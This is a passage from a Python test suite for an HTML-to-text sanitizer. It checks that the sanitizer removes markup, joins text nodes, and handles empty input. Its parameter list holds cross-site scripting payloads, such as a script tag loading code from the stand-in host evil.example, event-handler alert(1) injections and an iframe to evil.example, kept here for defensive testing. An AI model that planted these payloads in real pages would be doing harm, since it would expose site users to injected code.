        "<p>Hi</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<style>body{display:none}</style><p>Hi</p>",
        '<p onclick="alert(1)">Hi</p>',
        '<p><img src=x onerror="alert(1)">Hi</p>',
        "<svg onload=alert(1)><p>Hi</p></svg>",
        '<p><iframe src="//evil.example"></iframe>Hi</p>',
        "<!--<script>alert(1)</script>--><p>Hi</p>",
        "<p>Hi</p><!-- <script>alert(1)</script> never closed",
        "<p>Hi</p><script>alert(1)",
        "<![if !supportLists]><![foo[ x ]]><![ ]><p>Hi</p>",  # the standard parser raises on the last two
        '<body onload="alert(1)"><p>Hi</p></body>',
        "<div>" * 3000 + "Hi" + "</div>" * 3000,
    ],
)
def test_html_to_text_never_returns_markup(dirty):
    text = html_to_text(dirty)
    assert text == "Hi"
    assert isinstance(text, str) and type(text) is str  # not a SafeString: it is text, to be escaped


def test_parse_html_joins_the_pieces_of_a_text_into_one_node():
    # The standard parser hands "a < b" over in pieces; they make one Text, joined once (not piece by piece).
    paragraph = parse_html("<p>a < b &amp; c <3 d</p>").children[0]
    assert [child.data for child in paragraph.children] == ["a < b & c <3 d"]
    assert html_to_text("<div>" + "x < y " * 3 + "</div>") == "x < y x < y x < y"


def test_html_to_text_of_nothing_is_empty():
    assert html_to_text("") == ""
    assert html_to_text(None) == ""
    assert html_to_text("<p> \n </p>") == ""
